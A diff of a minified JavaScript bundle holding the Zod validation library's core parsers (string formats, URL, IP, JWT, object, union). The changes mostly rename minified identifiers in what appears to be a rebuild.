-e,t._zod.bag=t._zod.bag||{},t._zod.version=Zw;const s=t._zod.def.checks,r=t._zod.traits.has("$ZodCheck")?[t,...s??[]]:s?.
+};`)(...Object.values(this.closed))}}const Uw={major:4,minor:6,patch:7},Ze=N("$ZodType",(t,e)=>{var n;t??(t={}),t._zod.def=
+e,t._zod.bag=t._zod.bag||{},t._zod.version=Uw;const s=t._zod.def.checks,r=t._zod.traits.has("$ZodCheck")?[t,...s??[]]:s?.
 length?[...s]:[];for(const i of r)for(const o of i._zod.onattach)o(t);if(r.length===0)(n=t._zod).deferred??(n.deferred=[]),
 t._zod.deferred?.push(()=>{t._zod.run=t._zod.parse});else{const i=(a,c,u)=>{if(a.memo)return a;let l=Mt(a),d;for(const B of c){
-if(B._zod.def.when){if(Ly(a)||!B._zod.def.when(a))continue}else if(l)continue;const f=a.issues.length,h=B._zod.check(a);
+if(B._zod.def.when){if(Ny(a)||!B._zod.def.when(a))continue}else if(l)continue;const f=a.issues.length,h=B._zod.check(a);
 if(h instanceof Promise&&u?.async===!1)throw new Rn;if(d||h instanceof Promise)d=(d??Promise.resolve()).then(async()=>{await h,
 a.issues.length!==f&&(oo(a.issues,f,t),l||(l=Mt(a,f)))});else{if(a.issues.length===f)continue;oo(a.issues,f,t),l||(l=Mt(
 a,f))}}return d?d.then(()=>a):a},o=(a,c,u)=>{if(Mt(a))return a.aborted=!0,a;const l=i(c,r,u);if(l instanceof Promise){if(u.
 async===!1)throw new Rn;return l.then(d=>t._zod.parse(d,u))}return t._zod.parse(l,u)};t._zod.run=(a,c)=>{if(c.skipChecks)
 return t._zod.parse(a,c);if(c.direction==="backward"){const l=t._zod.parse({value:a.value,issues:[]},{...c,skipChecks:!0});
 return l instanceof Promise?l.then(d=>o(d,a,c)):o(l,a,c)}const u=t._zod.parse(a,c);if(u instanceof Promise){if(c.async===
-!1)throw new Rn;return u.then(l=>i(l,r,c))}return i(u,r,c)}}},{get"~standard"(){return uo(this,"~standard",sl(this))},set"\
-~standard"(t){yn(this,"~standard",t)}}),nl=(t,e)=>t.issues.length?{issues:t.issues.map(n=>Cn(n,e,Kt()))}:{value:t.value};
-async function Kw(t,e){const n={async:!0};return nl(await t._zod.run({value:e,issues:[]},n),n)}function sl(t){return{validate:e=>{
-const n={async:!1};try{const s=t._zod.run({value:e,issues:[]},n);if(!(s instanceof Promise))return nl(s,n)}catch{}return Kw(
-t,e)},vendor:"zod",version:1}}const Co=N("$ZodString",(t,e)=>{Ze.init(t,e),t._zod.pattern=e.pattern??Dw,t._zod.parse=(n,s)=>{
+!1)throw new Rn;return u.then(l=>i(l,r,c))}return i(u,r,c)}}},{get"~standard"(){return uo(this,"~standard",Qu(this))},set"\
+~standard"(t){yn(this,"~standard",t)}}),Xu=(t,e)=>t.issues.length?{issues:t.issues.map(n=>Cn(n,e,qt()))}:{value:t.value};
+async function Jw(t,e){const n={async:!0};return Xu(await t._zod.run({value:e,issues:[]},n),n)}function Qu(t){return{validate:e=>{
+const n={async:!1};try{const s=t._zod.run({value:e,issues:[]},n);if(!(s instanceof Promise))return Xu(s,n)}catch{}return Jw(
+t,e)},vendor:"zod",version:1}}const Co=N("$ZodString",(t,e)=>{Ze.init(t,e),t._zod.pattern=e.pattern??kw,t._zod.parse=(n,s)=>{
 if(e.coerce)try{n.value=String(n.value)}catch{}return typeof n.value=="string"||n.issues.push({expected:"string",code:"i\
-nvalid_type",input:n.value,inst:t}),n}}),Xe=N("$ZodStringFormat",(t,e)=>{yr.init(t,e),Co.init(t,e)}),Ww=N("$ZodGUID",(t,e)=>{
-e.pattern??(e.pattern=lw),Xe.init(t,e)}),qw=N("$ZodUUID",(t,e)=>{if(e.version){const s={v1:1,v2:2,v3:3,v4:4,v5:5,v6:6,v7:7,
-v8:8}[e.version];if(s===void 0)throw new Error(`Invalid UUID version: "${e.version}"`);e.pattern??(e.pattern=Yu(s))}else
-e.pattern??(e.pattern=Yu());Xe.init(t,e)}),Vw=N("$ZodEmail",(t,e)=>{e.pattern??(e.pattern=dw),Xe.init(t,e)}),rl=1,wr=2;function il(t){
-try{return typeof URL<"u"&&typeof URL.canParse=="function"?URL.canParse(t):(new URL(t),!0)}catch{return!1}}function Yw(t,e){
-return!("normalize"in e)&&!("hostname"in e)&&!("protocol"in e)?il(t)||wr:Xw(t,e)}function Xw(t,e){if(!e.normalize&&e.protocol?.
-source===ww.source&&!/^https?:\/\//i.test(t))return rl;try{if(typeof URL<"u"){const n=URL;if(typeof n.parse=="function")
-return n.parse(t)??wr}return new URL(t)}catch{return wr}}const Qw=/[\t\n\r]/g;function ol(t){return t.replace(Qw,"")}function eb(t,e){
-return e.lastIndex=0,e.test(t.hostname)}function tb(t,e){return e.lastIndex=0,e.test(t.protocol.endsWith(":")?t.protocol.
-slice(0,-1):t.protocol)}const nb=N("$ZodURL",(t,e)=>{Xe.init(t,e),t._zod.check=n=>{try{const s=n.value.trim(),r=Yw(s,e);
-if(r===rl){n.issues.push({code:"invalid_format",format:"url",note:"Invalid URL format",input:n.value,inst:t,continue:!e.
+nvalid_type",input:n.value,inst:t}),n}}),Xe=N("$ZodStringFormat",(t,e)=>{yr.init(t,e),Co.init(t,e)}),Zw=N("$ZodGUID",(t,e)=>{
+e.pattern??(e.pattern=cw),Xe.init(t,e)}),Kw=N("$ZodUUID",(t,e)=>{if(e.version){const s={v1:1,v2:2,v3:3,v4:4,v5:5,v6:6,v7:7,
+v8:8}[e.version];if(s===void 0)throw new Error(`Invalid UUID version: "${e.version}"`);e.pattern??(e.pattern=Ku(s))}else
+e.pattern??(e.pattern=Ku());Xe.init(t,e)}),qw=N("$ZodEmail",(t,e)=>{e.pattern??(e.pattern=uw),Xe.init(t,e)}),el=1,wr=2;function tl(t){
+try{return typeof URL<"u"&&typeof URL.canParse=="function"?URL.canParse(t):(new URL(t),!0)}catch{return!1}}function Ww(t,e){
+return!("normalize"in e)&&!("hostname"in e)&&!("protocol"in e)?tl(t)||wr:Vw(t,e)}function Vw(t,e){if(!e.normalize&&e.protocol?.
+source===Cw.source&&!/^https?:\/\//i.test(t))return el;try{if(typeof URL<"u"){const n=URL;if(typeof n.parse=="function")
+return n.parse(t)??wr}return new URL(t)}catch{return wr}}const Yw=/[\t\n\r]/g;function nl(t){return t.replace(Yw,"")}function Xw(t,e){
+return e.lastIndex=0,e.test(t.hostname)}function Qw(t,e){return e.lastIndex=0,e.test(t.protocol.endsWith(":")?t.protocol.
+slice(0,-1):t.protocol)}const eb=N("$ZodURL",(t,e)=>{Xe.init(t,e),t._zod.check=n=>{try{const s=n.value.trim(),r=Ww(s,e);
+if(r===el){n.issues.push({code:"invalid_format",format:"url",note:"Invalid URL format",input:n.value,inst:t,continue:!e.
 abort});return}if(r===wr){n.issues.push({code:"invalid_format",format:"url",input:n.value,inst:t,continue:!e.abort});return}
-if(r===!0){n.value=ol(s);return}e.hostname&&!eb(r,e.hostname)&&n.issues.push({code:"invalid_format",format:"url",note:"I\
-nvalid hostname",pattern:e.hostname.source,input:n.value,inst:t,continue:!e.abort}),e.protocol&&!tb(r,e.protocol)&&n.issues.
+if(r===!0){n.value=nl(s);return}e.hostname&&!Xw(r,e.hostname)&&n.issues.push({code:"invalid_format",format:"url",note:"I\
+nvalid hostname",pattern:e.hostname.source,input:n.value,inst:t,continue:!e.abort}),e.protocol&&!Qw(r,e.protocol)&&n.issues.
 push({code:"invalid_format",format:"url",note:"Invalid protocol",pattern:e.protocol.source,input:n.value,inst:t,continue:!e.
-abort}),n.value=e.normalize?r.href:ol(s);return}catch{n.issues.push({code:"invalid_format",format:"url",input:n.value,inst:t,
-continue:!e.abort})}}}),sb=N("$ZodEmoji",(t,e)=>{e.pattern??(e.pattern=fw()),Xe.init(t,e)}),rb=N("$ZodNanoID",(t,e)=>{if(e.
+abort}),n.value=e.normalize?r.href:nl(s);return}catch{n.issues.push({code:"invalid_format",format:"url",input:n.value,inst:t,
+continue:!e.abort})}}}),tb=N("$ZodEmoji",(t,e)=>{e.pattern??(e.pattern=dw()),Xe.init(t,e)}),nb=N("$ZodNanoID",(t,e)=>{if(e.
 length!==void 0&&(!Number.isInteger(e.length)||e.length<1))throw new Error(`Invalid nanoid length: ${e.length}`);e.pattern??
-(e.pattern=e.length===void 0?aw:cw(e.length)),Xe.init(t,e)}),ib=N("$ZodCUID",(t,e)=>{e.pattern??(e.pattern=nw),Xe.init(t,
-e)}),ob=N("$ZodCUID2",(t,e)=>{e.pattern??(e.pattern=sw),Xe.init(t,e)}),ab=N("$ZodULID",(t,e)=>{e.pattern??(e.pattern=rw),
-Xe.init(t,e)}),cb=N("$ZodXID",(t,e)=>{e.pattern??(e.pattern=iw),Xe.init(t,e)}),ub=N("$ZodKSUID",(t,e)=>{e.pattern??(e.pattern=
-ow),Xe.init(t,e)}),lb=N("$ZodISODateTime",(t,e)=>{e.pattern??(e.pattern=vw(e)),Xe.init(t,e)}),db=N("$ZodISODate",(t,e)=>{
-e.pattern??(e.pattern=Ew),Xe.init(t,e)}),Bb=N("$ZodISOTime",(t,e)=>{e.pattern??(e.pattern=kw(e)),Xe.init(t,e)}),fb=N("$Z\
-odISODuration",(t,e)=>{e.pattern??(e.pattern=uw),Xe.init(t,e)}),hb=N("$ZodIPv4",(t,e)=>{e.pattern??(e.pattern=hw),Xe.init(
-t,e)}),pb=/^[0-9a-fA-F:.]+$/;function al(t){return pb.test(t)?il(`http://[${t}]`):!1}const mb=N("$ZodIPv6",(t,e)=>{e.pattern??
-(e.pattern=pw),Xe.init(t,e),t._zod.check=n=>{al(n.value)||n.issues.push({code:"invalid_format",format:"ipv6",input:n.value,
-inst:t,continue:!e.abort})}}),eM=null,gb=N("$ZodCIDRv4",(t,e)=>{e.pattern??(e.pattern=mw),Xe.init(t,e)});function Cb(t){
+(e.pattern=e.length===void 0?iw:ow(e.length)),Xe.init(t,e)}),sb=N("$ZodCUID",(t,e)=>{e.pattern??(e.pattern=ew),Xe.init(t,
+e)}),rb=N("$ZodCUID2",(t,e)=>{e.pattern??(e.pattern=tw),Xe.init(t,e)}),ib=N("$ZodULID",(t,e)=>{e.pattern??(e.pattern=nw),
+Xe.init(t,e)}),ob=N("$ZodXID",(t,e)=>{e.pattern??(e.pattern=sw),Xe.init(t,e)}),ab=N("$ZodKSUID",(t,e)=>{e.pattern??(e.pattern=
+rw),Xe.init(t,e)}),cb=N("$ZodISODateTime",(t,e)=>{e.pattern??(e.pattern=Ew(e)),Xe.init(t,e)}),ub=N("$ZodISODate",(t,e)=>{
+e.pattern??(e.pattern=bw),Xe.init(t,e)}),lb=N("$ZodISOTime",(t,e)=>{e.pattern??(e.pattern=_w(e)),Xe.init(t,e)}),db=N("$Z\
+odISODuration",(t,e)=>{e.pattern??(e.pattern=aw),Xe.init(t,e)}),Bb=N("$ZodIPv4",(t,e)=>{e.pattern??(e.pattern=Bw),Xe.init(
+t,e)}),fb=/^[0-9a-fA-F:.]+$/;function sl(t){return fb.test(t)?tl(`http://[${t}]`):!1}const hb=N("$ZodIPv6",(t,e)=>{e.pattern??
+(e.pattern=fw),Xe.init(t,e),t._zod.check=n=>{sl(n.value)||n.issues.push({code:"invalid_format",format:"ipv6",input:n.value,
+inst:t,continue:!e.abort})}}),eM=null,pb=N("$ZodCIDRv4",(t,e)=>{e.pattern??(e.pattern=hw),Xe.init(t,e)});function mb(t){
 const e=t.split("/");if(e.length!==2)return!1;const[n,s]=e;if(!s)return!1;const r=Number(s);return`${r}`!==s||r<0||r>128?
-!1:al(n)}const yb=N("$ZodCIDRv6",(t,e)=>{e.pattern??(e.pattern=gw),Xe.init(t,e),t._zod.check=n=>{Cb(n.value)||n.issues.push(
-{code:"invalid_format",format:"cidrv6",input:n.value,inst:t,continue:!e.abort})}});function cl(t){if(t==="")return!0;if(/\s/.
-test(t)||t.length%4!==0)return!1;try{return atob(t),!0}catch{return!1}}const ul=/^[0-9a-zA-Z+/]*={0,2}$/,wb=N("$ZodBase6\
-4",(t,e)=>{e.pattern??(e.pattern=ul),Xe.init(t,e),t._zod.check=n=>{cl(n.value)||n.issues.push({code:"invalid_format",format:"\
-base64",input:n.value,inst:t,continue:!e.abort})}}),yo=/^[A-Za-z0-9_-]*$/;function bb(t){if(!yo.test(t))return!1;const e=t.
-replace(/[-_]/g,s=>s==="-"?"+":"/"),n=e.padEnd(Math.ceil(e.length/4)*4,"=");return cl(n)}const _b=N("$ZodBase64URL",(t,e)=>{
-e.pattern??(e.pattern=yo),Xe.init(t,e),t._zod.check=n=>{bb(n.value)||n.issues.push({code:"invalid_format",format:"base64\
-url",input:n.value,inst:t,continue:!e.abort})}}),Eb=N("$ZodE164",(t,e)=>{e.pattern??(e.pattern=bw),Xe.init(t,e)}),kb=/[- ]/g;
-function vb(t){let e=t.length,n=1,s=0;for(;e;){const r=t.charCodeAt(--e)-48;n^=1,s+=n?[0,2,4,6,8,1,3,5,7,9][r]:r}return s%
-10===0}function tM(t){return regexes.creditCard.test(t)?vb(t.replace(kb,"")):!1}const nM=null;function Db(t){let e=0;const n=t.
+!1:sl(n)}const gb=N("$ZodCIDRv6",(t,e)=>{e.pattern??(e.pattern=pw),Xe.init(t,e),t._zod.check=n=>{mb(n.value)||n.issues.push(
+{code:"invalid_format",format:"cidrv6",input:n.value,inst:t,continue:!e.abort})}});function rl(t){if(t==="")return!0;if(/\s/.
+test(t)||t.length%4!==0)return!1;try{return atob(t),!0}catch{return!1}}const il=/^[0-9a-zA-Z+/]*={0,2}$/,Cb=N("$ZodBase6\
+4",(t,e)=>{e.pattern??(e.pattern=il),Xe.init(t,e),t._zod.check=n=>{rl(n.value)||n.issues.push({code:"invalid_format",format:"\
+base64",input:n.value,inst:t,continue:!e.abort})}}),yo=/^[A-Za-z0-9_-]*$/;function yb(t){if(!yo.test(t))return!1;const e=t.
+replace(/[-_]/g,s=>s==="-"?"+":"/"),n=e.padEnd(Math.ceil(e.length/4)*4,"=");return rl(n)}const wb=N("$ZodBase64URL",(t,e)=>{
+e.pattern??(e.pattern=yo),Xe.init(t,e),t._zod.check=n=>{yb(n.value)||n.issues.push({code:"invalid_format",format:"base64\
+url",input:n.value,inst:t,continue:!e.abort})}}),bb=N("$ZodE164",(t,e)=>{e.pattern??(e.pattern=yw),Xe.init(t,e)}),_b=/[- ]/g;
+function Eb(t){let e=t.length,n=1,s=0;for(;e;){const r=t.charCodeAt(--e)-48;n^=1,s+=n?[0,2,4,6,8,1,3,5,7,9][r]:r}return s%
+10===0}function tM(t){return regexes.creditCard.test(t)?Eb(t.replace(_b,"")):!1}const nM=null;function kb(t){let e=0;const n=t.
 length;for(let s=4;s<n;s++){const r=t.charCodeAt(s);e=(r>=65?e*100+(r-55):e*10+(r-48))%97}for(let s=0;s<4;s++){const r=t.
-charCodeAt(s);e=(r>=65?e*100+(r-55):e*10+(r-48))%97}return e===1}function sM(t){return regexes.iban.test(t)?Db(t):!1}const rM=null;
-function xb(t,e=null){try{const n=t.split(".");if(n.length!==3)return!1;const[s]=n;if(!s)return!1;const r=JSON.parse(atob(
-s));return!("typ"in r&&r?.typ!=="JWT"||!r.alg||e&&(!("alg"in r)||r.alg!==e))}catch{return!1}}const Ob=N("$ZodJWT",(t,e)=>{
-Xe.init(t,e),t._zod.check=n=>{xb(n.value,e.alg)||n.issues.push({code:"invalid_format",format:"jwt",input:n.value,inst:t,
-continue:!e.abort})}}),iM=null,ll=N("$ZodNumber",(t,e)=>{Ze.init(t,e),t._zod.pattern=mo,t._zod.parse=(n,s)=>{if(e.coerce)
+charCodeAt(s);e=(r>=65?e*100+(r-55):e*10+(r-48))%97}return e===1}function sM(t){return regexes.iban.test(t)?kb(t):!1}const rM=null;
+function vb(t,e=null){try{const n=t.split(".");if(n.length!==3)return!1;const[s]=n;if(!s)return!1;const r=JSON.parse(atob(
+s));return!("typ"in r&&r?.typ!=="JWT"||!r.alg||e&&(!("alg"in r)||r.alg!==e))}catch{return!1}}const Db=N("$ZodJWT",(t,e)=>{
+Xe.init(t,e),t._zod.check=n=>{vb(n.value,e.alg)||n.issues.push({code:"invalid_format",format:"jwt",input:n.value,inst:t,
+continue:!e.abort})}}),iM=null,ol=N("$ZodNumber",(t,e)=>{Ze.init(t,e),t._zod.pattern=mo,t._zod.parse=(n,s)=>{if(e.coerce)
 try{n.value=Number(n.value)}catch{}const r=n.value;if(typeof r=="number"&&!Number.isNaN(r)&&Number.isFinite(r))return n;
 const i=typeof r=="number"?Number.isNaN(r)?"NaN":Number.isFinite(r)?void 0:String(r):void 0;return n.issues.push({expected:"\
-number",code:"invalid_type",input:r,inst:t,...i?{received:i}:{}}),n}}),Ab=N("$ZodNumberFormat",(t,e)=>{$w.init(t,e),ll.init(
-t,e)}),Sb=N("$ZodBoolean",(t,e)=>{Ze.init(t,e),t._zod.pattern=Aw,t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=!!n.value}catch{}
+number",code:"invalid_type",input:r,inst:t,...i?{received:i}:{}}),n}}),xb=N("$ZodNumberFormat",(t,e)=>{Tw.init(t,e),ol.init(
+t,e)}),Ob=N("$ZodBoolean",(t,e)=>{Ze.init(t,e),t._zod.pattern=xw,t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=!!n.value}catch{}
 const r=n.value;return typeof r=="boolean"||n.issues.push({expected:"boolean",code:"invalid_type",input:r,inst:t}),n}}),
-Tb=N("$ZodBigInt",(t,e)=>{Ze.init(t,e),t._zod.pattern=xw,t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=BigInt(n.value)}catch{}
+Ab=N("$ZodBigInt",(t,e)=>{Ze.init(t,e),t._zod.pattern=vw,t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=BigInt(n.value)}catch{}
 return typeof n.value=="bigint"||n.issues.push({expected:"bigint",code:"invalid_type",input:n.value,inst:t}),n}}),oM=null,
-aM=null,cM=null,uM=null,lM=null,Ib=N("$ZodUnknown",(t,e)=>{Ze.init(t,e),t._zod.parse=n=>n}),$b=N("$ZodNever",(t,e)=>{Ze.
-init(t,e),t._zod.parse=(n,s)=>(n.issues.push({expected:"never",code:"invalid_type",input:n.value,inst:t}),n)}),dM=null,Rb=N(
+aM=null,cM=null,uM=null,lM=null,Sb=N("$ZodUnknown",(t,e)=>{Ze.init(t,e),t._zod.parse=n=>n}),Tb=N("$ZodNever",(t,e)=>{Ze.
+init(t,e),t._zod.parse=(n,s)=>(n.issues.push({expected:"never",code:"invalid_type",input:n.value,inst:t}),n)}),dM=null,Ib=N(
 "$ZodDate",(t,e)=>{Ze.init(t,e),t._zod.parse=(n,s)=>{if(e.coerce)try{n.value=new Date(n.value)}catch{}const r=n.value,i=r instanceof
 Date;return i&&!Number.isNaN(r.getTime())||n.issues.push({expected:"date",code:"invalid_type",input:r,...i?{received:"In\
-valid Date"}:{},inst:t}),n}});function Nb(t,e){const n=Uu(t._zod.def.checks);if(!n.length)return;const s=Math.min(...n.map(
+valid Date"}:{},inst:t}),n}});function $b(t,e){const n=Mu(t._zod.def.checks);if(!n.length)return;const s=Math.min(...n.map(
 i=>i[0])),r=t._zod.parse;t._zod.parse=(i,o)=>{const a=e(i.value);if(a>s&&!o?.skipChecks&&o?.direction!=="backward"){for(const[
-c,u]of Uu(t._zod.def.checks))if(a>c&&u._zod.def.when(i)){const l=i.issues.length;return u._zod.check(i),i.issues[l].continue=
-!1,oo(i.issues,l,t),i}}return r(i,o)}}const Fb=t=>Array.isArray(t)?t.length:-1,BM=t=>t instanceof Map?t.size:-1,fM=t=>t instanceof
-Set?t.size:-1;function dl(t,e,n){t.issues.length&&e.issues.push(...sn(n,t.issues)),e.value[n]=t.value}const Lb=N("$ZodAr\
+c,u]of Mu(t._zod.def.checks))if(a>c&&u._zod.def.when(i)){const l=i.issues.length;return u._zod.check(i),i.issues[l].continue=
+!1,oo(i.issues,l,t),i}}return r(i,o)}}const Rb=t=>Array.isArray(t)?t.length:-1,BM=t=>t instanceof Map?t.size:-1,fM=t=>t instanceof
+Set?t.size:-1;function al(t,e,n){t.issues.length&&e.issues.push(...rn(n,t.issues)),e.value[n]=t.value}const Nb=N("$ZodAr\
 ray",(t,e)=>{Ze.init(t,e);const n=Rt.memoizer;n?.attach(t),t._zod.parse=(s,r)=>{const i=s.value;if(!Array.isArray(i))return s.
 issues.push({expected:"array",code:"invalid_type",input:i,inst:t}),s;s.value=n?n.alloc(t,s,Array(i.length),r):Array(i.length);
 const o=[],a=r?.abortEarly;for(let c=0;c<i.length;c++){const u=i[c],l=e.element._zod.run({value:u,issues:[]},r);if(l instanceof
-Promise)o.push(l.then(d=>dl(d,s,c)));else if(dl(l,s,c),a&&l.issues.length!==0&&Mt(l))break}return o.length?Promise.all(o).
-then(()=>s):s},Nb(t,Fb)});function br(t,e,n,s,r,i){const o=n in s,a=i==="optional";if(!(!o&&a&&r==="optional")){if(t.issues.
-length){if(r!==void 0&&a&&!o)return;e.issues.push(...sn(n,t.issues))}if(!o&&r===void 0){t.issues.length||e.issues.push({
+Promise)o.push(l.then(d=>al(d,s,c)));else if(al(l,s,c),a&&l.issues.length!==0&&Mt(l))break}return o.length?Promise.all(o).
+then(()=>s):s},$b(t,Rb)});function br(t,e,n,s,r,i){const o=n in s,a=i==="optional";if(!(!o&&a&&r==="optional")){if(t.issues.
+length){if(r!==void 0&&a&&!o)return;e.issues.push(...rn(n,t.issues))}if(!o&&r===void 0){t.issues.length||e.issues.push({
 code:"invalid_type",expected:"nonoptional",input:void 0,path:[n]});return}t.value===void 0?(o||r==="defaulted"&&!a)&&(e.
-value[n]=void 0):e.value[n]=t.value}}const Pb=[];function Bl(t){const e=Object.keys(t.shape),n=Object.getOwnPropertySymbols(
-t.shape),s=n.length?n:Pb,r=s.length?[...e,...s]:e;for(const o of r)if(!t.shape?.[o]?._zod?.traits?.has("$ZodType"))throw new Error(
-`Invalid element at key "${String(o)}": expected a Zod schema`);const i=Ay(t.shape);return{...t,allKeys:r,symbolKeys:s,keySet:new Set(
-e),numKeys:e.length,optionalKeys:new Set(i)}}function fl(t,e,n,s,r,i,o){const a=[],c=r.keySet,u=r.catchall._zod,l=u.def.
+value[n]=void 0):e.value[n]=t.value}}const Fb=[];function cl(t){const e=Object.keys(t.shape),n=Object.getOwnPropertySymbols(
+t.shape),s=n.length?n:Fb,r=s.length?[...e,...s]:e;for(const o of r)if(!t.shape?.[o]?._zod?.traits?.has("$ZodType"))throw new Error(
+`Invalid element at key "${String(o)}": expected a Zod schema`);const i=xy(t.shape);return{...t,allKeys:r,symbolKeys:s,keySet:new Set(
+e),numKeys:e.length,optionalKeys:new Set(i)}}function ul(t,e,n,s,r,i,o){const a=[],c=r.keySet,u=r.catchall._zod,l=u.def.
 type,d=u.optin,B=u.optout;let f=0;for(const h in e){if(o&&n.issues.length!==f){if(Mt(n,f))break;f=n.issues.length}if(c.has(
 h))continue;if(h==="__proto__"){l==="never"&&a.push(h);continue}if(l==="never"){a.push(h);continue}const m=u.run({value:e[h],
 issues:[]},s);m instanceof Promise?t.push(m.then(g=>br(g,n,h,e,d,B))):br(m,n,h,e,d,B)}return a.length&&n.issues.push({code:"\
-unrecognized_keys",keys:a,input:e,inst:i,continue:!0}),t.length?Promise.all(t).then(()=>n):n}const jb=N("$ZodObject",(t,e)=>{
+unrecognized_keys",keys:a,input:e,inst:i,continue:!0}),t.length?Promise.all(t).then(()=>n):n}const Lb=N("$ZodObject",(t,e)=>{
 Ze.init(t,e);const n=Object.getOwnPropertyDescriptor(e,"shape"),s=n?.get?n.get.raw:e.shape??{};if(s){const u=()=>{const l={
 ...s};return Object.defineProperty(e,"shape",{value:l}),u.raw=l,l};u.raw=s,Object.defineProperty(e,"shape",{get:u})}const r=ro(
-()=>Bl(e));He(t,"propValues",u=>{const l=u.def.shape,d={};for(const B in l){const f=l[B]._zod;if(f.values){Object.prototype.
+()=>cl(e));He(t,"propValues",u=>{const l=u.def.shape,d={};for(const B in l){const f=l[B]._zod;if(f.values){Object.prototype.
 hasOwnProperty.call(d,B)||mn(d,B,new Set);for(const h of f.values)d[B].add(h);f.optin!==void 0&&d[B].add(void 0)}}return d});
 const i=Br,o=e.catchall;let a;const c=Rt.memoizer;c?.attach(t),t._zod.parse=(u,l)=>{a??(a=r.value);const d=u.value;if(!i(
 d))return u.issues.push({expected:"object",code:"invalid_type",input:d,inst:t}),u;u.value=c?c.alloc(t,u,{},l):{};const B=[],
 f=a.shape,h=l?.abortEarly;let m=u.issues.length;for(const g of a.allKeys){if(h&&u.issues.length!==m){if(Mt(u,m))break;m=
 u.issues.length}if(g==="__proto__")continue;const C=f[g],b=C._zod.optin,y=C._zod.optout,D=C._zod.run({value:d[g],issues:[]},
-l);D instanceof Promise?B.push(D.then(O=>br(O,u,g,d,b,y))):br(D,u,g,d,b,y)}return o?fl(B,d,u,l,r.value,t,h===!0):B.length?
-Promise.all(B).then(()=>u):u}}),Mb=N("$ZodObjectJIT",(t,e)=>{jb.init(t,e);const n=t._zod.parse,s=ro(()=>Bl(e)),r=Rt.memoizer,
-i=f=>{const h=s.value,m=h.symbolKeys,g=new Jw(["payload","ctx"],{shape:f,inst:t,memo:r,syms:m}),C=O=>`shape[${O}]._zod.r\
+l);D instanceof Promise?B.push(D.then(O=>br(O,u,g,d,b,y))):br(D,u,g,d,b,y)}return o?ul(B,d,u,l,r.value,t,h===!0):B.length?
+Promise.all(B).then(()=>u):u}}),Pb=N("$ZodObjectJIT",(t,e)=>{Lb.init(t,e);const n=t._zod.parse,s=ro(()=>cl(e)),r=Rt.memoizer,
+i=f=>{const h=s.value,m=h.symbolKeys,g=new zw(["payload","ctx"],{shape:f,inst:t,memo:r,syms:m}),C=O=>`shape[${O}]._zod.r\
 un({ value: input[${O}], issues: [] }, ctx)`,b=(O,v)=>`
           let ${O}_ab = false;
           for (let i = 0; i < ${O}.issues.length; i++) {
@@ -2211,7 +2213,7 @@ un({ value: input[${O}], issues: [] }, ctx)`,b=(O,v)=>`
             return payload;
           }`;g.write("const input = payload.value;");const y=Object.create(null);let D=0;for(const O of h.allKeys)y[O]=`\
 key_${D++}`;g.write(r?"const newResult = memo.alloc(inst, payload, {}, ctx);":"const newResult = {};");for(const O of h.
-allKeys){if(O==="__proto__")continue;const v=y[O],I=typeof O=="symbol"?`syms[${m.indexOf(O)}]`:vy(O),_=`${I} in input`,$=f[O],
+allKeys){if(O==="__proto__")continue;const v=y[O],I=typeof O=="symbol"?`syms[${m.indexOf(O)}]`:Ey(O),_=`${I} in input`,$=f[O],
 S=$?._zod?.optin,j=S!==void 0,z=$?._zod?.optout==="optional";if(g.write(`const ${v} = ${C(I)};`),j&&z){const Z=S==="opti\
 onal"?`${v}_present`:`${v}.value !== undefined || ${v}_present`;g.write(`
         const ${v}_present = ${_};
@@ -2253,113 +2255,113 @@ onal"?`${v}_present`:`${v}.value !== undefined || ${v}_present`;g.write(`
         }
 
       `)}return g.write("payload.value = newResult;"),g.write("return payload;"),g.compile()};let o;const a=Br,c=!Rt.jitless,
-l=c&&xy.value,d=e.catchall;let B;t._zod.parse=(f,h)=>{B??(B=s.value);const m=f.value;return a(m)?c&&l&&h?.async===!1&&h.
-jitless!==!0?(o||(o=i(e.shape)),f=o(f,h),d?fl([],m,f,h,B,t,h?.abortEarly===!0):f):n(f,h):(f.issues.push({expected:"objec\
-t",code:"invalid_type",input:m,inst:t}),f)}});function hl(t,e,n,s){for(const i of t)if(i.issues.length===0)return e.value=
+l=c&&vy.value,d=e.catchall;let B;t._zod.parse=(f,h)=>{B??(B=s.value);const m=f.value;return a(m)?c&&l&&h?.async===!1&&h.
+jitless!==!0?(o||(o=i(e.shape)),f=o(f,h),d?ul([],m,f,h,B,t,h?.abortEarly===!0):f):n(f,h):(f.issues.push({expected:"objec\
+t",code:"invalid_type",input:m,inst:t}),f)}});function ll(t,e,n,s){for(const i of t)if(i.issues.length===0)return e.value=
 i.value,e;const r=t.filter(i=>!Mt(i));return r.length===1?(e.value=r[0].value,r[0]):(e.issues.push({code:"invalid_union",
-input:e.value,inst:n,errors:t.map(i=>i.issues.map(o=>Cn(o,s,Kt())))}),e)}const Gb=N("$ZodUnion",(t,e)=>{Ze.init(t,e),He(
+input:e.value,inst:n,errors:t.map(i=>i.issues.map(o=>Cn(o,s,qt())))}),e)}const jb=N("$ZodUnion",(t,e)=>{Ze.init(t,e),He(
 t,"optin",s=>s.def.options.some(r=>r._zod.optin==="defaulted")?"defaulted":s.def.options.some(r=>r._zod.optin!==void 0)?
 "optional":void 0),He(t,"optout",s=>s.def.options.some(r=>r._zod.optout==="optional")?"optional":void 0),He(t,"values",s=>{
 if(s.def.options.every(r=>r._zod.values))return new Set(s.def.options.flatMap(r=>Array.from(r._zod.values)))}),He(t,"pat\
 tern",s=>{if(s.def.options.every(r=>r._zod.pattern)){const r=s.def.options.map(i=>i._zod.pattern);return new RegExp(`^(${r.
 map(i=>io(i.source)).join("|")})$`)}});const n=e.options.length===1?e.options[0]._zod.run:null;t._zod.parse=(s,r)=>{if(n)
 return n(s,r);let i=!1;const o=[];for(const a of e.options){const c=a._zod.run({value:s.value,issues:[]},r);if(c instanceof
-Promise)o.push(c),i=!0;else{if(c.issues.length===0)return c;o.push(c)}}return i?Promise.all(o).then(a=>hl(a,s,t,r)):hl(o,
+Promise)o.push(c),i=!0;else{if(c.issues.length===0)return c;o.push(c)}}return i?Promise.all(o).then(a=>ll(a,s,t,r)):ll(o,
 s,t,r)}});function hM(t,e,n,s){const r=[];for(let i=0;i<t.length;i++)t[i].issues.length===0&&r.push(i);return r.length===
 1?(e.value=t[r[0]].value,e):(r.length===0?e.issues.push({code:"invalid_union",input:e.value,inst:n,errors:t.map(i=>i.issues.
